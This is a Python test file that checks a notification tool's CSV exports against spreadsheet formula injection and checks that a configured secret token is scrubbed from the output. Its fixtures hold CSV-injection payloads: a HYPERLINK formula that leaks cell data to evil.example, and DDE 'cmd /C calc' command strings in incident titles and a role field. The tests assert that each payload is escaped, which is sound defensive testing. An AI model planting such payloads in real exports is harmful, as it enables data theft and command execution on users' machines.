"""`notify log --csv` and `notify incidents --csv`: masked as the tables are, and never a spreadsheet formula."""

from __future__ import annotations

import csv
import io
from datetime import datetime
from pathlib import Path

import pytest

from dispatcher.app.exports import safe_cell

from .helpers import run

SECRET = "xoxb-CANARY-4242-secret"
TITLES = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
          "\t=1+1", "A normal title"]


def _at(text: str) -> datetime:
    return datetime.fromisoformat(text)


def _seed(state: Path) -> None:
    """One incident per hostile title, and one attempt whose provider error quotes a configured secret."""
    from dispatcher.store import AttemptRow, NewDelivery, open_store

    store = open_store(f"sqlite:///{state / 'notify' / 'notify.db'}")
    t0 = _at("2026-11-26T03:00:00+00:00")
    for n, title in enumerate(TITLES, start=500):
        row = NewDelivery("0", 0, "ann", "Ann", "on-call", "sms", "+14155550100", "+14******00", "sms")
        store.open_incident({"id": f"TEC-2026-{n}", "class": "technical", "drill": False, "dedup_key": "",
                             "started": t0, "fields": {"summary": title}}, [row], prefix="TEC", year=2026, now=t0)
    [taken] = store.claim("w", t0, _at("2026-11-26T03:01:00+00:00"), incident_id="TEC-2026-500")
    store.record_attempt(taken, AttemptRow(
        at=_at("2026-11-26T03:00:01+00:00"), incident_id="TEC-2026-500", klass="technical", step=0, person="ann",
        role="=cmd|' /C calc'!A0", channel="sms", masked_target="+14******00", attempt=1, outcome="failed-permanent",
        reason="auth", detail=f"HTTP 401 from api.example: token {SECRET} revoked", latency_ms=12.0,
        fallback_of=None, delivered_to=None, provider_id="SM123"), final_status="failed-permanent")
    store.close()


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1", " =1+1", "\n@A1"])
def test_a_cell_that_would_start_a_formula_is_kept_as_text(value: str) -> None:
    assert safe_cell(value).startswith("'")


def test_incidents_csv_neutralises_a_malicious_title(clean_env: Path) -> None:
    _seed(clean_env / "state")
    result = run("incidents", "--csv")
    assert result.exit_code == 0, result.stderr
    rows = _rows(result.stdout)
    assert list(rows[0]) == ["id", "class", "status", "drill", "started", "summary", "acked_by", "resolved_at",
                             "needs_review"]
    by_id = {r["id"]: r["summary"] for r in rows}
    assert by_id["TEC-2026-500"] == "'" + TITLES[0]  # read back as the text it is, never as a formula
    assert by_id["TEC-2026-501"] == "'" + TITLES[1]
    assert by_id["TEC-2026-502"] == "'-2+3" and by_id["TEC-2026-503"] == "'@SUM(A1:A9)"
    assert by_id["TEC-2026-504"] == "'\t=1+1"
    assert by_id["TEC-2026-505"] == "A normal title"
    assert all(not cell.startswith(("=", "+", "-", "@", "\t")) for row in rows for cell in row.values())


def test_log_csv_is_masked_as_the_table_is(clean_env: Path) -> None:
    _seed(clean_env / "state")
    env = {"NOTIFY_WEBHOOK_TOKEN": SECRET}  # a configured secret: scrubbed from every line of output
    table, result = run("log", env=env).stdout, run("log", "--csv", env=env)
    assert result.exit_code == 0, result.stderr
    [row] = _rows(result.stdout)
    assert SECRET not in result.stdout and SECRET not in table
    assert row["note"] == "HTTP 401 from api.example: token *** revoked" and "token *** revoked" in table
    assert row["target"] == "'+14******00"  # masked as in the table, and a leading + never starts a formula
    assert row["role"] == "'=cmd|' /C calc'!A0"
    assert (row["incident"], row["outcome"], row["reason"], row["provider_id"]) == (
        "TEC-2026-500", "failed-permanent", "auth", "SM123")


def test_csv_and_json_are_one_or_the_other(clean_env: Path) -> None:
    for command in ("log", "incidents"):
        result = run(command, "--csv", "--json")
        assert result.exit_code == 2 and "--json and --csv: choose one" in result.stderr
